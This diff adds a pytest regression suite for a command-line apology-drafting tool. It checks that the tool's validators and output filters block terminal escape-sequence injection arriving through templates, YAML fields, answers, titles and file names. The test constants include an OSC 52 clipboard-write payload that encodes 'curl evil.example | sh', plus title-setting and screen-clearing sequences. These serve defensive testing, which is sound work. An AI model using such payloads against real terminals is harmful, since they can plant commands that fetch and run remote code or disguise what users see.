@@ -1,0 +1,224 @@
+"""The attacks of issue #18, each as it was reproduced, and what stops it now.
+
+A hostile playbook, a hostile template, a hostile answer or another user sharing a folder
+tries what the issue found; each test says what it did before the fix in its docstring.
+The sections follow the issue's numbered items; the one-line refusals of item 7 are rows
+of docs/bad-inputs.md and live in tests/test_bad_inputs.py.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+import yaml
+
+TESTS = Path(__file__).parent
+BAD = TESTS / "data" / "bad"
+REPO = TESTS.parent
+
+ESC, BEL = "\x1b", "\x07"
+OSC52 = f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}"  # "curl evil.example | sh" into the clipboard
+OSC0 = f"{ESC}]0;pwned{BEL}"
+CLEAR = f"{ESC}[2J{ESC}[H"
+C1_CSI = "\x9b2J"
+# Every character a terminal acts on: C0 but newline and tab, DEL, C1.
+CONTROLS = (set(map(chr, range(0x20))) - {"\n", "\t"}) | {"\x7f"} | set(map(chr, range(0x80, 0xA0)))
+
+
+def controls_in(text: str) -> set[str]:
+    return CONTROLS & set(text)
+
+
+Cli = Callable[..., tuple[int, str, str]]
+
+
+@pytest.fixture
+def shared(tmp_path: Path) -> Path:
+    """A playbook folder (base.yaml and its note.j2), as a team might share one."""
+    folder = tmp_path / "shared"
+    folder.mkdir()
+    shutil.copy(BAD / "base.yaml", folder / "base.yaml")
+    shutil.copy(BAD / "note.j2", folder / "note.j2")
+    return folder
+
+
+def start(cli: Cli, playbook: Path, tmp_path: Path, *extra: str, answers: dict | None = None) -> str:
+    """Run `playbook` to the end from an answers file; the new session's id."""
+    values = answers or yaml.safe_load((BAD / "answers.yaml").read_text(encoding="utf-8"))
+    path = tmp_path / "answers.json"
+    path.write_text(json.dumps(values), encoding="utf-8")
+    code, out, err = cli("start", str(playbook), "--answers", str(path), "--no-input", *extra)
+    assert code == 0, err
+    return out.strip().splitlines()[-1]
+
+
+# --- 4. escape sequences ----------------------------------------------------------------
+
+# Jinja reads "\x1b" in a string constant as the escape character, so these pass the YAML
+# control-character check: the file itself holds only backslashes and letters.
+JINJA_OSC52 = '{{ "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" }}'
+JINJA_TITLE = '{{ "\\x1b]0;pwned\\x07" }}'
+# Built while rendering: no static check can see it; only the output filter stops it.
+COMPUTED_CLEAR = '{{ "%c[2J%c[H" % (27, 27) }}'
+
+
+def test_validate_refuses_a_template_whose_strings_hold_escape_sequences(cli: Cli, shared: Path):
+    """Before: `validate` said ok and `draft` printed OSC 52 (a clipboard write) raw."""
+    (shared / "note.j2").write_text(f"{JINJA_OSC52}Hello,\n{{{{ what_happened }}}}\n", encoding="utf-8")
+    code, out, _ = cli("validate", str(shared / "base.yaml"))
+    assert code == 2
+    assert out.splitlines() == [
+        f"{shared / 'base.yaml'}:28:15: messages[0].template: template note.j2: refused: the text "
+        "'\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07' contains the control character U+001B; "
+        "templates are plain text (a control character could rewrite the terminal)"
+    ]
+
+
+def test_validate_refuses_a_raw_escape_character_in_a_template(cli: Cli, shared: Path):
+    (shared / "note.j2").write_text(f"{CLEAR}Hello,\n{{{{ what_happened }}}}\n", encoding="utf-8")
+    code, out, _ = cli("validate", str(shared / "base.yaml"))
+    assert code == 2
+    assert "template note.j2: refused: the text '\\x1b[2J\\x1b[HHello,\\n' contains the control character U+001B" in out
+
+
+def test_validate_refuses_escape_sequences_in_a_when_or_a_default(cli: Cli, shared: Path):
+    text = (shared / "base.yaml").read_text(encoding="utf-8")
+    text = text.replace("when: \"severity != 'none'\"", "when: \"severity != '\\\\x1b[2J'\"")
+    text = text.replace('default: "{{ what_happened }} That', 'default: "{{ \'\\\\x9b2J\' }}{{ what_happened }} That')
+    (shared / "base.yaml").write_text(text, encoding="utf-8")
+    code, out, _ = cli("validate", str(shared / "base.yaml"))
+    assert code == 2
+    assert "stages[1].steps[0].default: refused: the text '\\x9b2J' contains the control character U+009B" in out
+    assert "stages[1].steps[0].when: refused: the text '\\x1b[2J' contains the control character U+001B" in out
+
+
+def test_a_draft_never_carries_escape_sequences_to_the_terminal_a_file_or_the_journal(cli: Cli, shared: Path, tmp_path: Path):
+    """The template is changed after the run (`draft` does not validate it again): string
+    escapes and a sequence built while rendering. Before: printed raw, stored raw."""
+    session = start(cli, shared / "base.yaml", tmp_path)
+    (shared / "note.j2").write_text(
+        f"{JINJA_OSC52}{JINJA_TITLE}{COMPUTED_CLEAR}Hello,\n{{{{ what_happened }}}}\n{{{{ responsibility }}}}\n", encoding="utf-8"
+    )
+    code, out, err = cli("draft", session, "-m", "note")
+    assert code == 0, err
+    assert out.startswith("Hello,\nThe invoice went to the wrong client.")
+    assert not controls_in(out + err)
+
+    code, _, err = cli("draft", session, "-m", "note", "-o", str(tmp_path / "note.txt"))
+    assert code == 0, err
+    assert not controls_in((tmp_path / "note.txt").read_text(encoding="utf-8"))
+
+    from mea_culpa.journal import open_journal
+
+    with open_journal(create=False) as journal:
+        drafts = journal.load(session).drafts
+    assert drafts and all(not controls_in(d.text) for d in drafts)
+
+
+HOSTILE_ANSWERS = {
+    "severity": "major",
+    "what_happened": f"It {OSC52}went {OSC0}to the {CLEAR}wrong {C1_CSI}client.",
+    "responsibility": f"I sent it.\tThat was my mistake.{BEL}",
+}
+
+
+@pytest.mark.parametrize("fmt", ["md", "html"])
+def test_text_exports_print_no_escape_sequences_from_answers_or_the_title(cli: Cli, shared: Path, tmp_path: Path, fmt: str):
+    """Before: `export -f md` printed the answers' OSC 52, OSC 0 and clear-screen raw."""
+    session = start(cli, shared / "base.yaml", tmp_path, "--title", f"inv{OSC0}oice", answers=HOSTILE_ANSWERS)
+    code, out, err = cli("export", session, "-f", fmt)
+    assert code == 0, err
+    assert not controls_in(out)
+    assert "It went to the wrong client." in out
+    assert "I sent it.\tThat was my mistake." in out  # a tab is text
+
+
+@pytest.mark.parametrize("fmt", ["json", "yaml"])
+def test_data_exports_keep_every_character_but_as_escapes(cli: Cli, shared: Path, tmp_path: Path, fmt: str):
+    """JSON and YAML keep the answers exactly, written so that a terminal shows escapes
+    (`\\u001b`, `\\e`) instead of acting on them."""
+    session = start(cli, shared / "base.yaml", tmp_path, "--title", f"inv{OSC0}oice\nanswers: {{severity: none}}", answers=HOSTILE_ANSWERS)
+    code, out, err = cli("export", session, "-f", fmt)
+    assert code == 0, err
+    assert not controls_in(out)
+    if fmt == "json":
+        steps = {s["id"]: s["answer"] for stage in json.loads(out)["stages"] for s in stage["steps"]}
+    else:
+        steps = yaml.safe_load(out)["answers"]  # the title's newline did not start a key of its own
+    assert steps["what_happened"] == HOSTILE_ANSWERS["what_happened"]
+    assert steps["responsibility"] == HOSTILE_ANSWERS["responsibility"]
+    if fmt == "yaml":
+        assert steps["severity"] == "major"
+
+
+def test_list_shows_an_unvalidated_playbook_title_without_escape_sequences(cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """`list` reads files shallowly, without the validator. Before: a title written with
+    YAML escapes ("\\e]0;…\\a") set the window title."""
+    folder = tmp_path / "project" / ".mea-culpa" / "playbooks"
+    folder.mkdir(parents=True)
+    text = (BAD / "base.yaml").read_text(encoding="utf-8").replace("title: Bad example", 'title: "Bad\\e]0;pwned\\a \\x9b2Jexample"')
+    (folder / "base.yaml").write_text(text, encoding="utf-8")
+    monkeypatch.chdir(tmp_path / "project")
+    code, out, err = cli("list")
+    assert code == 0, err
+    assert "Bad example" in out
+    assert not controls_in(out + err)
+    code, out, _ = cli("list", "--json")
+    assert not controls_in(out)
+    assert json.loads(out)[0]["title"] == "Bad\x1b]0;pwned\x07 \x9b2Jexample"
+
+
+def test_the_run_shows_titles_prompts_and_answers_without_escape_sequences(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch):
+    """cli/ui.py: stage headers, guidance, the review table and the resume banner. A
+    playbook that reached the run without the validator (a model built in code), a session
+    title and answers from a shared journal."""
+    monkeypatch.setenv("FORCE_COLOR", "1")
+    from mea_culpa.cli import ui
+    from mea_culpa.playbook.model import Playbook
+    from mea_culpa.run.session import new_session, plan
+
+    data = yaml.safe_load((BAD / "base.yaml").read_text(encoding="utf-8"))
+    data["title"] = f"Bad{OSC0} example"
+    data["stages"][0]["title"] = f"Facts{OSC52}"
+    data["stages"][0]["guidance"] = f"Facts {CLEAR}first."
+    data["stages"][0]["steps"][1]["prompt"] = f"What {C1_CSI}happened?"
+    book = Playbook.model_validate(data)
+    session, _ = new_session(book, session_id="s", title=f"t{OSC0}itle", now="2026-01-01T00:00:00+00:00", tags=())
+    planned = plan(book, session)
+    ui.console.cache_clear()
+    try:
+        ui.intro(book)
+        ui.stage_header(planned.stages[0], 1, 2)
+        ui.answers_table(planned, title="Review")
+        ui.resumed(session, planned, changed=True)
+        ui.notice(f"note {OSC0}")
+        ui.show_playbook(book)
+    finally:
+        ui.console.cache_clear()
+    out, err = capsys.readouterr()
+    shown = out + err
+    for word in ("Bad example", "Facts", "first.", "What happened?", "title"):
+        assert word in shown
+    # colours are rich's own (FORCE_COLOR): CSI "m" sequences; nothing else may be there
+    import re
+
+    left = re.sub(r"\x1b\[[0-9;]*m", "", shown)
+    assert not controls_in(left), [left[max(0, i - 30) : i + 30] for i, c in enumerate(left) if c in CONTROLS]
+
+
+@pytest.mark.parametrize("fmt", ["text", "json"])
+def test_check_shows_the_checked_text_without_its_escape_sequences(cli: Cli, tmp_path: Path, fmt: str):
+    """`check` quotes the text around each finding. Before: an escape sequence in the
+    checked file was printed raw (and C1 controls raw in JSON)."""
+    path = tmp_path / f"apology{OSC0}.txt"
+    path.write_text(f"Sorry for any {OSC52}inconvenience {C1_CSI}this may have caused.\n", encoding="utf-8")
+    code, out, err = cli("check", str(path), "-f", fmt)
+    assert code in (0, 1), err
+    assert "inconvenience" in out
+    assert not controls_in(out + err)
